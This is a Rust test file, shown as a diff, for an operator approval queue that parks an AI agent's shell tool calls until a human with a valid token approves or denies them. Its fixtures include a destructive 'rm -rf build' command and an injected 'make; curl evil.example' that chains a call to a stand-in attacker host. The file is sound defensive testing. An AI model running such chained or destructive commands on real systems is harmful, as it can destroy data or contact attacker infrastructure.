@@ -0,0 +1,170 @@
+use async_trait::async_trait;
+use baml_rt_a2a::a2a::{A2aMethod, A2aOutcome, A2aRequest};
+use baml_rt_a2a::a2a_types::{DecideApprovalRequest, ListApprovalsRequest};
+use baml_rt_a2a::handlers::{AdminHandler, DefaultAdminHandler};
+use baml_rt_core::ids::ContextId;
+use baml_rt_core::Result;
+use baml_rt_interceptor::{
+    ApprovalInterceptor, InterceptorDecision, InterceptorRegistry, InterceptorStage,
+    OperatorCredentials, PayloadCapture, PendingApprovalQueue, ToolCallContext, ToolInterceptor,
+};
+use serde_json::{json, Value};
+use std::sync::Arc;
+use std::time::Duration;
+
+fn shell_call(command: &str) -> ToolCallContext {
+    ToolCallContext {
+        tool_name: "shell/run".to_string(),
+        function_name: None,
+        args: json!({"command": command}),
+        context_id: ContextId::new(1, 1),
+        metadata: json!({}),
+    }
+}
+
+fn list_request(token: &str) -> ListApprovalsRequest {
+    serde_json::from_value(json!({"operatorToken": token})).unwrap()
+}
+
+fn admin_handler(queue: &PendingApprovalQueue) -> DefaultAdminHandler {
+    DefaultAdminHandler::new(Arc::new(PayloadCapture::new(8)))
+        .with_approval_queue(Some(queue.clone()))
+        .with_operators(OperatorCredentials::new().with_operator("ops", "ops-token"))
+}
+
+/// List approvals as `ops` until one is waiting.
+async fn first_pending(handler: &DefaultAdminHandler) -> Value {
+    loop {
+        let A2aOutcome::Response(listed) =
+            handler.handle_list_approvals(list_request("ops-token")).await.expect("list approvals")
+        else {
+            panic!("expected a response");
+        };
+        if let Some(pending) = listed["approvals"].as_array().unwrap().first() {
+            return pending.clone();
+        }
+        tokio::time::sleep(Duration::from_millis(5)).await;
+    }
+}
+
+#[tokio::test]
+async fn operators_list_and_decide_parked_tool_calls() {
+    let request = A2aRequest::from_value(json!({
+        "jsonrpc": "2.0",
+        "id": 1,
+        "method": "admin.decideApproval",
+        "params": {"approvalId": "a", "approved": true, "operatorToken": "ops-token"},
+    }))
+    .expect("parse request");
+    assert_eq!(request.method, A2aMethod::AdminDecideApproval);
+
+    let queue = PendingApprovalQueue::new();
+    let handler = admin_handler(&queue);
+    let approvals = Arc::new(ApprovalInterceptor::new(queue.clone(), ["shell/run".to_string()]));
+    let call = tokio::spawn({
+        let approvals = approvals.clone();
+        async move { approvals.intercept_tool_call(&shell_call("rm -rf build")).await }
+    });
+
+    let pending = first_pending(&handler).await;
+    assert_eq!(pending["toolName"], "shell/run");
+    assert_eq!(pending["args"]["command"], "rm -rf build");
+    assert_eq!(pending["contextId"], "ctx-1-1");
+
+    let decide: DecideApprovalRequest = serde_json::from_value(json!({
+        "approvalId": pending["approvalId"],
+        "approved": false,
+        "operatorToken": "ops-token",
+        "approver": "someone-else@example.com",
+        "reason": "not during a release",
+    }))
+    .unwrap();
+    handler.handle_decide_approval(decide).await.expect("decide");
+    assert_eq!(
+        call.await.unwrap().unwrap(),
+        InterceptorDecision::Block("shell/run denied by ops: not during a release".to_string())
+    );
+}
+
+#[tokio::test]
+async fn approval_methods_need_an_operator_token() {
+    let queue = PendingApprovalQueue::new();
+    let handler = admin_handler(&queue);
+    assert!(handler.handle_list_approvals(ListApprovalsRequest::default()).await.is_err());
+    assert!(handler.handle_list_approvals(list_request("guess")).await.is_err());
+
+    let approvals = Arc::new(
+        ApprovalInterceptor::new(queue.clone(), ["shell/run".to_string()])
+            .with_timeout(Duration::from_millis(200)),
+    );
+    let call = tokio::spawn({
+        let approvals = approvals.clone();
+        async move { approvals.intercept_tool_call(&shell_call("make release")).await }
+    });
+    let pending = first_pending(&handler).await;
+    let decide: DecideApprovalRequest = serde_json::from_value(json!({
+        "approvalId": pending["approvalId"],
+        "approved": true,
+        "operatorToken": "guess",
+    }))
+    .unwrap();
+    assert!(handler.handle_decide_approval(decide).await.is_err());
+    assert!(matches!(call.await.unwrap().unwrap(), InterceptorDecision::Block(_)));
+}
+
+/// Rewrites every call's command.
+struct Sanitize;
+
+#[async_trait]
+impl ToolInterceptor for Sanitize {
+    fn stage(&self) -> InterceptorStage {
+        InterceptorStage::Transform
+    }
+
+    async fn intercept_tool_call(&self, _context: &ToolCallContext) -> Result<InterceptorDecision> {
+        Ok(InterceptorDecision::Modify { args: Some(json!({"command": "make"})), prompt: None })
+    }
+
+    async fn on_tool_call_complete(
+        &self,
+        _context: &ToolCallContext,
+        _result: &Result<Value>,
+        _duration_ms: u64,
+    ) {
+    }
+}
+
+#[tokio::test]
+async fn operators_see_the_arguments_transforms_leave() {
+    let queue = PendingApprovalQueue::new();
+    let handler = admin_handler(&queue);
+    let mut registry = InterceptorRegistry::new();
+    registry.register_tool_interceptor(ApprovalInterceptor::new(
+        queue.clone(),
+        ["shell/run".to_string()],
+    ));
+    registry.register_tool_interceptor(Sanitize);
+    let call = tokio::spawn(async move {
+        registry.intercept_tool_call(&shell_call("make; curl evil.example")).await
+    });
+
+    let pending = first_pending(&handler).await;
+    assert_eq!(pending["args"], json!({"command": "make"}));
+    let decide: DecideApprovalRequest = serde_json::from_value(json!({
+        "approvalId": pending["approvalId"],
+        "approved": true,
+        "operatorToken": "ops-token",
+    }))
+    .unwrap();
+    handler.handle_decide_approval(decide).await.expect("decide");
+    assert_eq!(
+        call.await.unwrap().unwrap(),
+        InterceptorDecision::Modify { args: Some(json!({"command": "make"})), prompt: None }
+    );
+}
+
+#[tokio::test]
+async fn approvals_need_a_queue() {
+    let handler = DefaultAdminHandler::new(Arc::new(PayloadCapture::new(8)));
+    assert!(handler.handle_list_approvals(list_request("ops-token")).await.is_err());
+}